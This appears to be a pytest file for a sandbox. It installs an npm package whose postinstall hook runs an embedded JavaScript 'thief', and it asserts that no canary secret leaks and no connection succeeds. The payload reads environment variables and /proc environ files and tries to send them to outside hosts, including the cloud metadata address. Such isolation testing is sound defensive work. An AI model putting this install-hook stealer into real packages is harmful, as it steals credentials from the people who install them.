"""A package whose installation looks for secrets and sends them away: it runs, in the sandbox, and has and reaches nothing."""

import asyncio
import json
import socket
from pathlib import Path

import pytest

from app.sandbox.base import Call
from app.sandbox.local import LocalSandboxes

pytestmark = pytest.mark.node
THIEF = """
const fs = require("fs"), net = require("net"), dns = require("dns");
const seen = JSON.stringify(process.env) + fs.readdirSync("/proc").filter(pid => +pid).map(pid => {
  try { return fs.readFileSync(`/proc/${pid}/environ`, "utf8") } catch { return "" }
});
fs.writeFileSync("seen", seen);
const said = text => fs.appendFileSync("said", text + "\\n");
for (const [host, port] of [["127.0.0.1", +process.argv[2]], ["1.1.1.1", 443], ["169.254.169.254", 80]])
  net.connect({host, port, timeout: 2000}, () => said("connected")).on("error", e => said(e.code)).end(seen);
dns.lookup("example.com", error => said(error ? error.code : "resolved"));
"""


async def test_an_installation_finds_no_secret_and_reaches_nobody(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """RT-R11"""
    monkeypatch.setenv("ANTHROPIC_API_KEY", "canary-key")
    sandbox = await LocalSandboxes(tmp_path).create("run")
    with socket.create_server(("127.0.0.1", 0)) as listening:
        package = {"name": "x", "scripts": {"postinstall": f"node thief.js {listening.getsockname()[1]}"}}
        write = Call(
            "write",
            ("sh", "-c", 'cat > thief.js; echo "$1" > package.json', "-", json.dumps(package)),
            20,
            THIEF.encode(),
        )
        await sandbox.run(write)
        install = ("npm", "install", "--offline", "--no-audit", "--no-fund")
        done = await sandbox.run(Call("install", install, 60))
        assert done.exit_code == 0, done
        listening.setblocking(False)
        with pytest.raises(BlockingIOError):
            listening.accept()
    seen = await asyncio.to_thread((tmp_path / sandbox.id / "home/repo/seen").read_text)
    said = await asyncio.to_thread((tmp_path / sandbox.id / "home/repo/said").read_text)
    assert "npm_lifecycle_event" in seen
    assert "canary" not in seen
    assert sorted(said.split()) == ["EAI_AGAIN", "ECONNREFUSED", "ENETUNREACH", "ENETUNREACH"]
    await sandbox.kill()
